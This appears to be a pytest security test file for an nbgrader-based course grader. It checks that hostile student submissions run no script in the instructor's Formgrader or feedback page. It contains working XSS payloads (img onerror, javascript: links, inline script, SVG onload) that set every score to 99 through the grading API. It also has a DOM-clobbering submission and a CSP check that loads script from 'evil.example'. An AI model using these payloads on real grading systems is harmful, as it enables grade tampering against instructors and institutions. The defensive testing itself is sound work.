"""A student's written answer and outputs that try to run script in the instructor's browser: the
instructor opens the submission in the Formgrader (Manual Grading's grading page) and the
student's feedback page, in headless Chromium.  No script of the student's runs and no grade changes
in the gradebook; the control, nbgrader's stock rendering of the same autograded copy, runs it and
gives the attacker marks through the Formgrader's own API."""

import json
import re
import shutil
import time
from pathlib import Path

import nbformat
import pytest

from rlhf_course import ASSIGNMENT, NOTEBOOK
from rlhf_course.grading import examples
from rlhf_course.grading.pages import feedback, safe_html
from rlhf_course.course import notebooks, settings
from rlhf_course.course.settings import Course
from tests.support.course import copy_course, gradebook_url, release_course

from tests.support.in_process_sandbox import grade_in_process
from tests.support.browser import InstructorServers, LabServer
from tests.support.submissions import ran_with_outputs

# Marks itself, then (once the Formgrader has loaded the grades) fills every score box on the page with
# 99, as a grader would, so that the Formgrader's own script saves the scores through its API.
SCRIPT = ("window.__pwned=(window.__pwned||0)+1;var t=setInterval(function(){if(window.formgrader&&"
          "formgrader.grades.loaded){clearInterval(t);document.querySelectorAll('input.score,input.extra-credit')"
          ".forEach(function(e){e.value=99;e.dispatchEvent(new Event('change',{bubbles:true}))})}},100)")
FORMULAS = 1000  # for the Formgrader's MathJax to typeset, which takes 200 of them from one cell
WRITTEN = f'My answer is <img src=x onerror="{SCRIPT}"> and [a link](javascript:{SCRIPT}).' + " $x$" * FORMULAS
TYPESET_IN_ANSWER = ("() => { const cell = Array.from(document.querySelectorAll('.text_cell_render'))"
                     ".find(e => e.textContent.includes('My answer is'));"
                     " return cell.querySelectorAll('script[type^=\"math/tex\"]').length; }")
OUTPUTS = [
    {"text/html": f'<b>bold</b><img src=x onerror="{SCRIPT}"><script>{SCRIPT}</script>', "text/plain": "html"},
    {"application/javascript": SCRIPT, "text/plain": "js"},
    {"image/svg+xml": f'<svg xmlns="http://www.w3.org/2000/svg" onload="{SCRIPT}"><circle r="5"/></svg>'},
    {"text/markdown": f'<img src=x onerror="{SCRIPT}">'},
]


CLOBBERING = "mallory_moves_her_answer"


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    """One course for the file: Ada's honest submission, Mallory's hostile one and her answer-moving one, graded
    (the in-process double: the feedback copy is the notebook as submitted); the instructor's lab on a course
    (`make lab-instructor`), started once per course."""
    tmp_path = tmp_path_factory.mktemp("hostile")
    course = copy_course(tmp_path / "course")
    release_course(course)
    course_handle = Course.at(course)
    examples.write_submission(course_handle, "ada", examples.answers_for(course_handle, ()))
    _hostile_submission(course)
    release_ids = [g for g in _clobbering_submission(course, CLOBBERING) if g]
    results = {r.student: r for r in grade_in_process(course_handle)}
    servers = InstructorServers(tmp_path)

    def start(root: Path = course) -> LabServer:
        return servers.start(root)

    yield course, results, release_ids, start
    servers.stop()


def _hostile_submission(course):
    """Script in a written answer, odd metadata, outputs in the file (the canonical copy drops them)."""
    course_handle = Course.at(course)
    folder = examples.write_submission(course_handle, "mallory", {**examples.answers_for(course_handle, ()), "lab_question_1": WRITTEN})
    nb = nbformat.read(str(folder / NOTEBOOK), 4)
    answer = next(c for c in nb.cells if notebooks.is_answer_cell(c))
    answer.outputs = [nbformat.v4.new_output("display_data", data=data) for data in OUTPUTS]
    answer.metadata["magics_language"] = "maple"
    nb.metadata["language_info"]["pygments_lexer"] = "ipython3"
    nbformat.write(nb, str(folder / NOTEBOOK))


def _hostile_run(course, result):
    """The same outputs as the course's run of the copy sends them back (the student's code printed them),
    with one huge and deeply nested HTML output: the feedback page and the autograded copy written again."""
    outputs = [{"output_type": "display_data", "metadata": {}, "data": data}
               for data in OUTPUTS + [{"text/html": "<b>" * 87000, "text/plain": "bold"}]]
    result.executed_notebook = ran_with_outputs(result.canonical_notebook, {"answer": outputs})
    feedback.write_feedback(settings.Course.at(course), result)


def manual_scores(course) -> dict:
    """Every grade's manual score and extra credit in the gradebook."""
    from nbgrader.api import Gradebook
    with Gradebook(gradebook_url(course), "rlhf-course") as gradebook:
        return {(student.id, grade.name): (grade.manual_score, grade.extra_credit)
                for student in gradebook.students
                for grade in gradebook.find_submission_notebook(NOTEBOOK.removesuffix(".ipynb"), ASSIGNMENT,
                                                                student.id).grades}


def _open(browser, url: str, server: LabServer | None = None):
    """The page as the logged-in instructor sees it (its own API calls authenticated too)."""
    headers = {"Authorization": f"token {server.token}"} if server else {}
    page = browser.new_context(extra_http_headers=headers, viewport={"width": 1400, "height": 1000}).new_page()
    page.goto(url)  # "load": after every image's error handler and every inline script or SVG onload had its turn
    page.get_by_text("My answer is").first.wait_for(timeout=60_000)
    return page


@pytest.mark.slow
def test_a_hostile_submission_runs_nothing_in_the_formgrader_or_its_feedback_page(graded, browser, artifacts):
    course, results, _, start = graded
    assert results["mallory"].state == "graded", results["mallory"].detail
    _hostile_run(course, results["mallory"])
    autograded = nbformat.read(str(course / "autograded" / "mallory" / ASSIGNMENT / NOTEBOOK), 4)
    assert "magics_language" not in json.dumps([c.metadata for c in autograded.cells])
    assert "HTML not rendered: 87,000 tags" in json.dumps(autograded.cells)
    before = manual_scores(course)
    assert before and all(score == (None, None) or score[1] in (None, 0) for score in before.values())
    from nbgrader.api import Gradebook
    with Gradebook(gradebook_url(course), "rlhf-course") as gradebook:
        submission_id = gradebook.find_submission_notebook(NOTEBOOK.removesuffix(".ipynb"), ASSIGNMENT, "mallory").id

    # the feedback page, as the student (or an instructor checking it) opens it
    feedback = course / "feedback" / "mallory" / ASSIGNMENT / NOTEBOOK.replace(".ipynb", ".html")
    page = _open(browser, feedback.as_uri())
    assert page.evaluate("window.__pwned") is None
    assert 'http-equiv="Content-Security-Policy"' in feedback.read_text()
    page.close()

    server = start()
    page = _open(browser, server.url(f"formgrader/submissions/{submission_id}/"), server)
    page.screenshot(path=str(artifacts / "formgrader_hostile_submission.png"))
    # the scores are live, and MathJax (which renders the student's formulas after "load") is done
    page.wait_for_function("formgrader.grades.loaded && window.MathJax && MathJax.loaded === true", timeout=60_000)
    assert page.evaluate("window.__pwned") is None
    assert page.locator(".text_cell_render img[onerror]").count() == 0
    assert page.evaluate(TYPESET_IN_ANSWER) == safe_html.MAX_FORMULAS_PER_CELL
    assert page.locator(".text_cell_render em", has_text="formulas after the 200th of this cell").count() == 1
    # defence in depth: the page's policy refuses script and requests to any other host
    assert page.evaluate("""() => { const s = document.createElement('script');
        s.src = 'https://evil.example/x.js'; let refused = false;
        document.addEventListener('securitypolicyviolation', () => { refused = true; });
        document.head.appendChild(s); return new Promise(r => setTimeout(() => r(refused), 500)); }""")
    page.close()
    assert manual_scores(course) == before

    # The control: the same autograded copy rendered as stock nbgrader renders it (no sanitiser in the
    # Formgrader's exporter): the written answer's image handler runs and the scores change.  On a copy of the
    # course: the file's lab keeps the course's configuration.
    stock = course.parent / "stock course"
    shutil.copytree(course, stock)
    config = stock / "nbgrader_config.py"
    config.write_text(re.sub(r"c\.HTMLExporter\.(sanitize_html|filters) = [^\n]*(\n +[^\n]*)*\n", "", config.read_text()))
    assert "HTMLExporter.filters" not in config.read_text()
    server = start(stock)
    page = _open(browser, server.url(f"formgrader/submissions/{submission_id}/"), server)
    page.wait_for_function("window.__pwned >= 1", timeout=10_000)
    page.wait_for_function("formgrader.grades.loaded", timeout=10_000)
    page.wait_for_function("window.MathJax && MathJax.loaded === true", timeout=60_000)
    typeset_by_stock = page.evaluate(TYPESET_IN_ANSWER)
    changed, deadline = set(), time.monotonic() + 30
    while not changed and time.monotonic() < deadline:  # the script's saves, as they reach the gradebook
        page.wait_for_timeout(200)
        changed = {key for key, score in manual_scores(stock).items() if score != before[key]}
    page.close()
    assert changed, "the control: stock rendering should have let the script change a score"
    assert typeset_by_stock == FORMULAS, "the control: stock rendering gives MathJax every formula"


def _clobbering_submission(course, student: str) -> list[str]:
    """Mallory's other: no code; her written answer moved to the top, wrapped in a div of class full-credit,
    under it one empty heading per other grade cell with that cell's id (and nbgrader's classes)."""
    course_handle = Course.at(course)
    folder = examples.write_submission(course_handle, student, examples.answers_for(course_handle, ()))
    nb = nbformat.read(str(folder / NOTEBOOK), 4)
    ids = [notebooks.grade_id(c) for c in nb.cells]
    answer = nb.cells.pop(ids.index("lab_question_1"))
    answer.source = ('<div class="full-credit mark-graded score">My answer is a plausible one.</div>\n\n'
                     + "".join(f'<h6 id="{g}" class="hidden score nbgrader_cell"></h6>\n' for g in ids
                               if g and g != "lab_question_1"))
    nb.cells.insert(0, answer)
    nbformat.write(nb, str(folder / NOTEBOOK))
    return ids


@pytest.mark.slow
def test_a_grading_click_changes_exactly_the_cell_clicked(graded, browser, artifacts):
    """The instructor clicks Full credit on Mallory's answer, types a score for another answer and clicks
    inside her answer's text: exactly those two cells change in the gradebook; her moved answer is back
    in its place on the page, and flagged."""
    course, results, release_ids, start = graded
    result = results[CLOBBERING]
    assert "lab_question_1: was moved (put back in its place from the release)" in result.flags
    before = manual_scores(course)
    from nbgrader.api import Gradebook
    with Gradebook(gradebook_url(course), "rlhf-course") as gradebook:
        submission = gradebook.find_submission_notebook(NOTEBOOK.removesuffix(".ipynb"), ASSIGNMENT, CLOBBERING)
        submission_id, flagged = submission.id, submission.flagged
    assert flagged
    server = start()
    page = browser.new_context(extra_http_headers={"Authorization": f"token {server.token}"},
                               viewport={"width": 1400, "height": 1000}).new_page()
    try:
        page.goto(server.url(f"formgrader/submissions/{submission_id}/"))
        page.wait_for_function("window.formgrader && formgrader.grades.loaded && formgrader.comments.loaded"
                               " && window.MathJax && MathJax.loaded === true", timeout=60_000)

        def settled():
            """A person clicks once the page stands still: the Formgrader scrolls to a score box whenever one
            gets focus (MathJax's end, a Full credit click), a 500 ms animation that can take a click's target
            from under the pointer on a busy machine (seen in CI: the Full credit click lost)."""
            page.wait_for_function("window.jQuery && jQuery(':animated').length === 0", timeout=10_000)

        # the page's grade cells in the release's order, each id naming one element
        shown = page.evaluate("() => Array.from(document.querySelectorAll('input.score')).map(e => e.id)")
        in_release_order = [g for g in release_ids if g in shown]
        assert shown == in_release_order and len(shown) == len(set(shown))
        assert page.locator("h6").count() == 0 or page.locator("h6[id], h6[class]").count() == 0
        saves = []  # the Formgrader's saves of a grade (PUT .../api/grade/<id>), answered
        page.on("response", lambda r: saves.append(r.url) if "/api/grade/" in r.url and r.request.method == "PUT"
                else None)
        heading = page.locator("#lab_question_1").locator("xpath=ancestor::div[contains(@class,'panel-heading')]")
        settled()
        heading.locator("button.full-credit").click()
        page.wait_for_function("document.querySelector('#lab_question_1').value !== ''", timeout=10_000)
        page.locator("#lab_question_2").fill("1")
        page.locator("#lab_question_2").press("Tab")
        settled()
        page.get_by_text("My answer is a plausible one.").click()
        deadline = time.monotonic() + 30
        while len(saves) < 2 and time.monotonic() < deadline:  # the two changes saved
            page.wait_for_timeout(100)
        page.wait_for_timeout(500)  # and room for a third save, which would be a bug the assertions below catch
        page.screenshot(path=str(artifacts / "formgrader_clobbering_submission.png"), full_page=False)
    finally:
        page.close()
    after = manual_scores(course)
    assert {key[0] for key in after if after[key] != before[key]} == {CLOBBERING}  # (student, grade cell)
    changed = {name: after[key] for key, name in ((k, k[1]) for k in after) if after[key] != before[key]}
    assert changed == {"lab_question_1": (2.0, None), "lab_question_2": (1.0, None)} or \
        {k: v[0] for k, v in changed.items()} == {"lab_question_1": 2.0, "lab_question_2": 1.0}, changed
